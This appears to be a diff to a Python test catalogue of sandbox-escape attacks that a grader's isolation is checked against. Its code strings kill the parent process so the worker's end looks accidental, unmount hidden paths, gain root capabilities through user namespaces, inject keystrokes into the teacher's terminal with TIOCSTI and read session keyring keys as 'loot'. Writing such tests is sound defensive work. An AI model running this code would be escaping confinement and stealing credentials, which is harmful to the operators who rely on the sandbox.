@@ -3,10 +3,10 @@
 from attacks.attack import Attack
 
 
-def _calling(name: str, tries: str, code: str, weakened: str = "no_walls", unproven: str = "") -> Attack:
+def _calling(name: str, tries: str, code: str, weakened: str = "no_walls", needs: str = "") -> Attack:
     """An attack that calls the C library as `libc` and tells what was not refused."""
     head = "libc = ctypes.CDLL(None, use_errno=True)\n"
-    return Attack(name=name, tries=tries, code=head + code, weakened=weakened, unproven=unproven)
+    return Attack(name=name, tries=tries, code=head + code, weakened=weakened, needs=needs)
 
 
 ATTACKS = [
@@ -48,16 +48,17 @@ except OSError:
     ),
     _calling(
         "kill_the_parent",
-        "kills the process that started it",
+        "kills the process that keeps it, so that its own end looks like the machine's doing",
         """
 parent = os.getppid()
 if parent > 1:
-    os.kill(parent, signal.SIGKILL)
-    time.sleep(0.2)
-    tell(parent)
+    try:
+        os.kill(parent, signal.SIGKILL)
+    except OSError:
+        return None
+    time.sleep(5)
 """,
-        weakened="",
-        unproven="tried against no_walls: the worker ends with its parent, before it can tell anything",
+        weakened="walls_in_name_alone",
     ),
     _calling(
         "mount_over_the_system",
@@ -68,8 +69,8 @@ if libc.mount(b"tmpfs", b"/tmp/mine", b"tmpfs", 0, None) == 0:
     libc.umount2(b"/tmp/mine", 2)
     tell("mounted")
 """,
-        weakened="",
-        unproven="a weakened grader would have to mount on the machine that runs the tests",
+        weakened="keeps_capabilities",
+        needs="namespaces for each worker",
     ),
     _calling(
         "unmount_what_hides",
@@ -77,22 +78,20 @@ if libc.mount(b"tmpfs", b"/tmp/mine", b"tmpfs", 0, None) == 0:
         """
 for path in (b"/proc", b"/usr/share/datasets", b"/tmp", b"/dev/shm"):
     if libc.umount2(path, 2) == 0:
-        tell(path)
+        tell([path, os.listdir(path)])
 """,
-        weakened="",
-        unproven="a weakened grader would have to unmount on the machine that runs the tests",
+        weakened="keeps_capabilities",
+        needs="namespaces for each worker",
     ),
     _calling(
         "namespaces",
-        "makes namespaces of its own, becomes root in them, and uncovers what is mounted over /proc",
+        "makes namespaces of its own, and mounts in them with all of root's capabilities",
         """
 if libc.unshare(0x10000000 | 0x00020000) == 0:  # CLONE_NEWUSER, CLONE_NEWNS
-    for path in (b"/proc", b"/dev/shm", b"/usr/share/datasets"):
-        if libc.umount2(path, 2) == 0:
-            tell([path, os.listdir(path)])
+    tell(libc.mount(b"tmpfs", b"/tmp", b"tmpfs", 0, None) == 0 and "mounted")
 """,
-        weakened="",
-        unproven="a weakened grader would have to unmount on the machine that runs the tests",
+        weakened="keeps_capabilities",
+        needs="namespaces for each worker",
     ),
     _calling(
         "chroot",
@@ -105,6 +104,7 @@ except OSError:
 else:
     tell("chroot")
 """,
+        needs="root",
     ),
     _calling(
         "become_root",
@@ -117,6 +117,7 @@ for change in (lambda: os.setresuid(0, 0, 0), lambda: os.setresgid(1, 1, 1), lam
         continue
     tell([os.getuid(), os.getgid()])
 """,
+        needs="root",
     ),
     _calling(
         "setuid_program",
@@ -139,15 +140,14 @@ for program in ("/usr/bin/su", "/usr/bin/passwd", "/usr/bin/mount", "/usr/bin/ne
         """
 for which in (resource.RLIMIT_AS, resource.RLIMIT_CPU, resource.RLIMIT_FSIZE, resource.RLIMIT_NOFILE):
     soft, hard = resource.getrlimit(which)
+    more = hard if soft != hard else hard + 1
     try:
-        resource.setrlimit(which, (hard + 1, hard + 1))
+        resource.setrlimit(which, (more, more))
     except (OSError, ValueError):
         continue
-    resource.setrlimit(which, (hard, hard))
-    tell(which)
+    tell([which, soft, more])
 """,
-        weakened="",
-        unproven="tried against no_walls: in a container root itself may not raise a hard limit",
+        weakened="soft_limits",
     ),
     _calling(
         "priority",
@@ -161,6 +161,7 @@ else:
     os.nice(10)
     tell("priority")
 """,
+        needs="root",
     ),
     _calling(
         "capabilities",
@@ -171,22 +172,22 @@ held = (ctypes.c_uint32 * 6)()
 libc.capget(header, held)
 tell([hex(number) for number in held if number])
 """,
+        needs="root",
     ),
     _calling(
         "terminal_input",
         "types commands into the teacher's terminal with ioctl TIOCSTI",
         """
 import fcntl
-for path in (0, 1, 2, "/dev/tty", "/dev/console"):
+for path in (FIELD["terminal"], 0, 1, 2, "/dev/tty"):
     try:
-        number = path if isinstance(path, int) else os.open(path, os.O_RDWR)
+        number = path if isinstance(path, int) else os.open(path, os.O_RDWR)  # it becomes this session's own terminal
         fcntl.ioctl(number, 0x5412, b" ")
     except OSError:
         continue
     tell(path)
 """,
-        weakened="",
-        unproven="the tests have no terminal to type into",
+        needs="a kernel that lets terminals be typed into",
     ),
     _calling(
         "keyring",
@@ -196,10 +197,11 @@ number = libc.syscall(250, 11, -3, 0, 0)  # KEYCTL_READ of the session's keyring
 if number > 0:
     keys = (ctypes.c_int32 * (number // 4))()
     libc.syscall(250, 11, -3, keys, number)
-    tell(list(keys))
+    loot = ctypes.create_string_buffer(80)
+    tell([loot.value for key in keys if libc.syscall(250, 11, key, loot, 80) > 0])
 """,
-        weakened="",
-        unproven="the tests plant no key: a keyring belongs to the machine",
+        weakened="no_walls",
+        needs="a kernel that keeps keys",
     ),
     _calling(
         "kernel_doors",
@@ -223,5 +225,6 @@ except OSError:
 else:
     tell("hostname")
 """,
+        needs="root",
     ),
 ]
